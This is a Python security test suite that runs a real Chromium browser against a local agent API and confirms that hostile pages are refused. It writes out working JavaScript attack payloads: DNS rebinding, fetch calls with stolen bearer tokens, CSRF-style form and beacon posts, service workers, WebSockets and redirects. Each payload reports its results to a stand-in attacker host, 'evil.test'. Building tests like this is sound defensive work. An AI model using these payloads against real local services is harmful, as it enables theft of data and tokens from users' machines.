#!/usr/bin/env python3
"""What a hostile page in a real browser can do to the agent of this machine: nothing.

Chromium speaks to the agent through a tap: each attack reached it, or the browser stopped it.
After each nothing was written, the answers held nothing of the data, and the page had nothing to
report of all that it could read. The control is a page that is allowed to, by the same means.
"""

import json
import unittest

from api_device import ApiTest, record_path
from chromium import REPORTS_WITHIN_S, Chromium, Page, Site, Tap
from costs import AttackTest
from lanyard_process import wait_until

CANARY = "canary-7f3a91"
REFUSALS = {400, 401, 403, 404, 405, 415, 421, 426}
SPACES = "/v1/spaces"
CHANGES = "/v1/spaces/default/changes"
SEEN = record_path("canary", "seen")
WRITE = json.dumps({"ops": [{"op": "put", "collection": "written", "key": "k", "value": {}}]})

# What attacks are written with. `tried` reports whatever came of one.
TOOLS = """
const report = (body, more) => fetch(REPORT, {method: "POST", mode: "no-cors", body, ...more});
const tried = async (name, go) => {
  let got;
  try { got = await go(); } catch (problem) { got = "refused: " + problem; }
  await report(name + ": " + got);
};
const said = async answer => `${answer.type} ${answer.status} ${await answer.text()}`;
const get = (name, url, more) => tried(name, async () => said(await fetch(url, more)));
const post = (name, url, type, body, more) => get(name, url, {
  method: "POST", body, headers: type ? {"Content-Type": type} : {}, ...more});
const element = (kind, fields) => tried(kind + " " + JSON.stringify(fields), () =>
  new Promise(done => {
    const made = Object.assign(document.createElement(kind), fields);
    for (const name of ["load", "error"]) made["on" + name] = () => {
      let seen = "";
      try { seen = made.contentWindow.location.href + made.contentDocument.body.innerText; }
      catch (problem) { seen = problem.name; }
      done(name + " " + seen + " " + (made.naturalWidth || "") + (made.duration || ""));
    };
    setTimeout(() => done("nothing"), 1500);
    document.body.append(made);
  }));
const form = (enctype, method, action, target, fields) => {
  const made = Object.assign(document.createElement("form"), {enctype, method, action, target});
  for (const [name, value] of Object.entries(fields))
    made.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(made);
  made.submit();
};
const socket = (name, url, token) => tried(name, () => new Promise(done => {
  const made = new WebSocket(url);
  let seen = "";
  made.onopen = () => {
    seen += "open ";
    made.send(JSON.stringify({type: "auth", token}));
    made.send(JSON.stringify({type: "subscribe", id: "s", space: "default"}));
    made.send(JSON.stringify({type: "changes", id: "w", space: "default", ...JSON.parse(WRITE)}));
  };
  made.onmessage = event => {
    seen += event.data;
    if (event.data.includes("receipt")) made.close();
  };
  made.onclose = event => done(`${seen}closed ${event.code}`);
}));
"""


class Attacks(AttackTest, ApiTest):
    reached = 0

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.agent = cls.api.port
        cls.hostile, cls.page, cls.tap = Site(), Site(), Tap(cls.agent)
        cls.rebound = Tap(cls.hostile.port)
        for each in (cls.hostile, cls.page, cls.tap, cls.rebound):
            cls.addClassCleanup(each.close)
        cls.evil = f"http://evil.test:{cls.hostile.port}"
        cls.allowed = f"http://page.test:{cls.page.port}"
        cls.api.put(SEEN, {"secret": CANARY})
        cls.tokens = {
            "the token of a page": cls.device.api(
                "--space", "default", "--write", origin=cls.allowed).token,
            "the token of a script": cls.api.token}
        cls.watcher = cls.device.api("--all-spaces", "--manage", described=cls.api.described)
        cls.browser = Chromium({
            f"127.0.0.1:{cls.agent}": cls.tap.port, f"localhost:{cls.agent}": cls.tap.port,
            f"evil.test:{cls.agent}": cls.rebound.port,
            f"evil.test:{cls.hostile.port}": cls.hostile.port,
            f"localhost:{cls.hostile.port}": cls.hostile.port,
            f"page.test:{cls.page.port}": cls.page.port}, secure=(cls.evil,))
        cls.addClassCleanup(cls.browser.close)
        cls.addClassCleanup(lambda: print(f"report: {cls.reached} requests of hostile pages"))

    def setUp(self):
        self.tap.cut()
        self.rebound.cut(self.hostile.port)
        self.hostile.reports.clear()
        self.hostile.pages.clear()
        self.before = self.state()

    def state(self) -> tuple:
        """All that an attack could have changed."""
        names = [space["name"] for space in self.watcher.get(SPACES)["spaces"]]
        tokens = self.device.json("token", "list")["tokens"]
        return ([(name, self.watcher.get(f"{SPACES}/{name}")["changes"]) for name in names],
                self.watcher.get(SEEN), [token["id"] for token in tokens])

    def script(self, body: str, site: Site, host: str) -> str:
        names = {"AGENT": f"http://127.0.0.1:{self.agent}", "PORT": self.agent, "WRITE": WRITE,
                 "REPORT": f"http://{host}:{site.port}/report", "TOKENS": self.tokens,
                 "READ": ["/healthz", "/readyz", "/v1/status", "/v1/openapi.json", SPACES, SEEN],
                 "SEEN": SEEN, "CHANGES": CHANGES}
        constants = "".join(f"const {name} = {json.dumps(value)};\n"
                            for name, value in names.items())
        return constants + TOOLS + body

    def visit(self, body: str, site: Site | None = None, host: str = "evil.test") -> Page:
        """A page of that site, which has run this script up to its end."""
        site = site or self.hostile
        # A page that is just led elsewhere says it all the same.
        run = f"(async () => {{ {body}; await report('done', {{keepalive: true}}); }})();"
        site.pages["/"] = ("text/html", "<!doctype html><body><script>\n" +
                           self.script(run, site, host) + "</script>")
        page = self.browser.open(f"http://{host}:{site.port}/")
        self.addCleanup(page.close)
        self.wait_for("done", site)
        return page

    def wait_for(self, report: str, site: Site) -> None:
        wait_until(f"the page says {report}", lambda: report in site.reports, REPORTS_WITHIN_S)

    def text_at(self, page: Page, url: str) -> str:
        return wait_until(f"the page comes to {url}", lambda: page.text_at(url), REPORTS_WITHIN_S)

    def attack(self, body: str, requests: int, **more) -> Page:
        page = self.visit(body, **more)
        self.check(self.tap, requests)
        return page

    def check(self, tap: Tap, requests: int, statuses: set[int] | None = None) -> None:
        """So many requests came to the agent, and nothing came of any of them."""
        wait_until(f"{requests} requests came to the agent: {tap.statuses()}",
                   lambda: len(tap.statuses()) >= requests, REPORTS_WITHIN_S)
        Attacks.reached += len(tap.statuses())
        self.assertLessEqual(set(tap.statuses()), statuses or REFUSALS)
        self.assertNotIn(CANARY.encode(), tap.answered())
        self.assertEqual(self.state(), self.before)
        for report in self.hostile.reports:
            # The answers name the problem: a page that sees even this has read something.
            for secret in (CANARY, self.device.info["id"], "LY-", "openapi", '"status"', "open "):
                self.assertNotIn(secret, report.partition(": ")[2], report)

    # ---- DNS rebinding

    def test_a_page_of_a_name_that_now_means_this_machine_does_not_load(self):
        self.rebound.cut(self.agent)
        paths = ("/", SEEN, "/v1/status")
        for path in paths:
            page = self.browser.open(url := f"http://evil.test:{self.agent}{path}")
            self.addCleanup(page.close)
            self.assertNotIn(CANARY, self.text_at(page, url))
        self.check(self.rebound, len(paths), {421})

    def test_a_page_whose_name_is_rebound_after_it_was_loaded(self):
        attack = """
            for (const [name, token] of [["no token", ""], ...Object.entries(TOKENS)]) {
              const headers = token ? {Authorization: "Bearer " + token} : {};
              for (const url of READ) await get(name + " " + url, url, {headers});
              await get(name + " put", SEEN, {method: "PUT", body: "{}", headers: {
                ...headers, "Content-Type": "application/json"}});
              await post(name + " post", CHANGES, "application/json", WRITE,
                         {headers: {...headers, "Content-Type": "application/json"}});
              await socket(name + " socket", `ws://${location.host}/v1/live`, token);
            }
            await report("done");"""
        self.hostile.pages["/"] = ("text/html", "<!doctype html><body><script>\n" + self.script(
            f"const attack = async () => {{ {attack} }}; report('ready');", self.hostile,
            "evil.test").replace("`${answer.type} ${answer.status} ${await answer.text()}`",
                                 "(await answer.text()).replace(/^.*LY-W001.*$/s, 'no host')") +
            "</script>")
        page = self.browser.open(f"http://evil.test:{self.agent}/")
        self.addCleanup(page.close)
        self.wait_for("ready", self.hostile)
        self.rebound.cut(self.agent)
        page.value("attack(), 0")
        self.wait_for("done", self.hostile)
        # It is of the same origin for the browser, and reads the refusal: Host is all that helps.
        self.check(self.rebound, 27, {421})
        self.assertEqual(self.hostile.reports.count("no token /healthz: no host"), 1)

    # ---- what scripts can send

    def test_fetch_with_and_without_a_stolen_token(self):
        self.attack("""
            for (const url of READ) await get("plain " + url, AGENT + url);
            for (const [name, token] of Object.entries(TOKENS)) {
              const headers = {Authorization: "Bearer " + token};
              for (const url of READ) await get(name + " " + url, AGENT + url, {headers});
              for (const method of ["PUT", "PATCH", "DELETE"])
                await get(name + method, AGENT + SEEN, {method, headers: {
                  ...headers, "Content-Type": "application/json"}, body: "{}"});
            }""", 24)

    def test_fetch_from_a_frame_without_an_origin(self):
        self.attack("""
            const inner = `fetch("${AGENT}${SEEN}", {headers: {Authorization: "Bearer ${
              TOKENS["the token of a page"]}"}}).then(a => a.text()).catch(e => "refused " + e)
              .then(text => parent.postMessage(text, "*"))`;
            const heard = new Promise(done => window.onmessage = event => done(event.data));
            const made = document.createElement("iframe");
            made.sandbox = "allow-scripts";
            made.srcdoc = "<script>" + inner + "</" + "script>";
            document.body.append(made);
            await tried("sandboxed", () => heard);""", 1)

    def test_posts_that_a_browser_sends_unasked(self):
        self.attack("""
            const fields = new FormData();
            fields.append("ops", WRITE);
            for (const mode of ["no-cors", "cors"]) {
              for (const type of ["text/plain", "application/x-www-form-urlencoded", "",
                                  "text/plain; application/json"])
                await post(mode + " " + type, AGENT + CHANGES, type, WRITE, {mode});
              await post(mode + " fields", AGENT + CHANGES, "", fields, {mode});
              await post(mode + " untyped", AGENT + CHANGES, "", new Blob([WRITE]), {mode});
              await post(mode + " space", AGENT + "/v1/spaces", "text/plain", '{"name":"x"}',
                         {mode});
            }
            for (const url of READ) await get("opaque " + url, AGENT + url, {mode: "no-cors"});
            """, 20)

    def test_beacons(self):
        """A beacon of JSON is asked for first; the others are sent as they are."""
        self.attack("""
            for (const type of ["text/plain", "application/x-www-form-urlencoded", "",
                                "application/json"])
              await tried(type, () =>
                navigator.sendBeacon(AGENT + CHANGES, new Blob([WRITE], {type})));
            """, 4)

    def test_event_sources(self):
        self.attack("""
            for (const url of READ) await tried(url, () => new Promise(done => {
              const made = new EventSource(AGENT + url);
              made.onopen = () => done("it is open");
              made.onmessage = event => done(event.data);
              made.onerror = () => { made.close(); done("error"); };
            }));""", 6)

    def test_a_service_worker_of_the_page(self):
        worker = """
            onmessage = async event => {
              for (const url of READ) {
                await get("worker " + url, AGENT + url);
                await get("opaque " + url, AGENT + url, {mode: "no-cors"});
              }
              for (const [name, token] of Object.entries(TOKENS))
                await get(name, AGENT + SEEN, {headers: {Authorization: "Bearer " + token}});
              await post("worker post", AGENT + CHANGES, "text/plain", WRITE, {mode: "no-cors"});
              event.source.postMessage("worked");
            };
            onfetch = event => event.respondWith(fetch(event.request));"""
        self.hostile.pages["/worker.js"] = ("text/javascript",
                                            self.script(worker, self.hostile, "evil.test"))
        self.attack("""
            const worked = new Promise(done => navigator.serviceWorker.onmessage = done);
            await navigator.serviceWorker.register("/worker.js");
            const ready = await navigator.serviceWorker.ready;
            ready.active.postMessage("go");
            await worked;
            await get("through the worker", AGENT + SEEN);""", 16)

    def test_web_sockets(self):
        self.attack("""
            for (const host of ["127.0.0.1", "localhost"])
              for (const [name, token] of [["no token", ""], ...Object.entries(TOKENS)])
                await socket(host + " " + name, `ws://${host}:${PORT}/v1/live`, token);""", 6)
        self.assertEqual(sum(report.endswith(": closed 1006") for report in self.hostile.reports),
                         6, self.hostile.reports)

    # ---- what a page can embed

    def test_elements_of_a_page(self):
        self.attack("""
            const all = [];
            for (const path of READ) {
              const url = AGENT + path;
              for (const kind of ["img", "script", "embed", "audio", "video"])
                all.push(element(kind, {src: url}));
              all.push(element("object", {data: url}));
              for (const rel of ["stylesheet", "prefetch", "modulepreload", "icon", "manifest"])
                all.push(element("link", {rel, href: url}));
              for (const as of ["fetch", "script", "image", "style"])
                all.push(element("link", {rel: "preload", as, href: url}));
              all.push(element("script", {src: url, type: "module"}));
              all.push(element("img", {src: url, crossOrigin: "anonymous"}));
            }
            await Promise.all(all);
            await report("globals: " + Object.keys(window).filter(name => name.startsWith("LY")));
            """, 48)  # it sends 84 of 102, and how many of one address it merges is its own affair

    def test_frames_show_nothing(self):
        page = self.attack("""
            await Promise.all(READ.map(url => element("iframe", {src: AGENT + url})));
            await report("frames: " + [...Array(frames.length).keys()].map(i => {
              try { return frames[i].document.body.innerText; } catch (e) { return e.name; }}));
            """, 6)
        self.assertEqual(page.frames(), ["chrome-error://chromewebdata/"] * 6)

    # ---- navigation

    def test_forms(self):
        """Into a frame, and as a page of their own: what a user who clicks would send."""
        enctypes = ("application/x-www-form-urlencoded", "multipart/form-data", "text/plain")
        fields = json.dumps({WRITE[:-1] + ',"x":"': '"}'})
        for enctype in enctypes:
            for target in ("inside", "_self"):
                with self.subTest(enctype=enctype, target=target):
                    self.setUp()
                    self.visit(f"""
                        document.body.append(Object.assign(
                          document.createElement("iframe"), {{name: "inside"}}));
                        form("{enctype}", "POST", AGENT + CHANGES, "{target}", {fields});""")
                    self.check(self.tap, 1, {403, 415})

    def test_a_page_that_leads_to_the_agent(self):
        for path in ("/v1/status", SEEN):
            page = self.visit(f'setTimeout(() => location = AGENT + "{path}", 200)')
            self.check(self.tap, 1)
            self.assertNotIn(CANARY, self.text_at(page, f"http://127.0.0.1:{self.agent}{path}"))
            self.tap.cut()

    def test_redirects_to_the_agent(self):
        self.attack("""
            for (const status of [301, 302, 303, 307, 308]) {
              const to = path => `/to/${status}/${AGENT}${path}`;
              for (const mode of ["cors", "no-cors"]) {
                await get(`${status} ${mode}`, to(SEEN), {mode});
                await post(`${status} ${mode} post`, to(CHANGES), "text/plain", WRITE, {mode});
              }
              await post(`${status} json`, to(CHANGES), "application/json", WRITE, {
                headers: {"Content-Type": "application/json",
                          Authorization: "Bearer " + TOKENS["the token of a page"]}});
              await element("img", {src: to(SEEN)});
              await element("iframe", {src: to(SEEN)});
            }
            form("text/plain", "POST", `/to/307/${AGENT}${CHANGES}`, "_self", {a: WRITE});""", 36)

    # ---- another program of this machine that shows pages

    def test_a_page_of_this_machine(self):
        """For the browser it is of the same site as the agent: only the port differs."""
        self.attack("""
            const OWN = `http://localhost:${PORT}`;
            for (const url of READ) {
              await get("plain " + url, OWN + url);
              await get("opaque " + url, OWN + url, {mode: "no-cors"});
            }
            for (const [name, token] of Object.entries(TOKENS)) {
              await get(name, OWN + SEEN, {headers: {Authorization: "Bearer " + token}});
              await socket(name + " socket", `ws://localhost:${PORT}/v1/live`, token);
            }
            await post("post", OWN + CHANGES, "text/plain", WRITE, {mode: "no-cors"});
            await element("iframe", {src: OWN + SEEN});
            await element("img", {src: OWN + "/healthz"});
            await element("script", {src: OWN + "/v1/status"});
            """, 20, host="localhost")

    # ---- the control

    def test_the_allowed_page_reads_and_writes(self):
        """Otherwise all the others could pass because nothing works."""
        self.page.reports.clear()
        self.visit("""
            const headers = {Authorization: "Bearer " + TOKENS["the token of a page"],
                             "Content-Type": "application/json"};
            await get("read", AGENT + SEEN, {headers});
            await get("put", AGENT + SEEN.replace("canary", "by-fetch"), {
              method: "PUT", body: '{"by":"fetch"}', headers});
            await socket("socket", `ws://127.0.0.1:${PORT}/v1/live`,
                         TOKENS["the token of a page"]);""", self.page, "page.test")
        read, put, heard, _ = self.page.reports
        self.assertRegex(read, f"^read: cors 200 .*{CANARY}")
        self.assertRegex(put, "^put: cors 200 ")
        self.assertRegex(heard, f"^socket: open .*signedIn.*{CANARY}.*durable.*closed 100[05]$")
        self.assertEqual(self.watcher.get(record_path("by-fetch", "seen"))["value"],
                         {"by": "fetch"})
        self.assertEqual(self.watcher.get(record_path("k", "written"))["value"], {})
        self.assertIn(CANARY.encode(), self.tap.answered())


if __name__ == "__main__":
    unittest.main(verbosity=2)
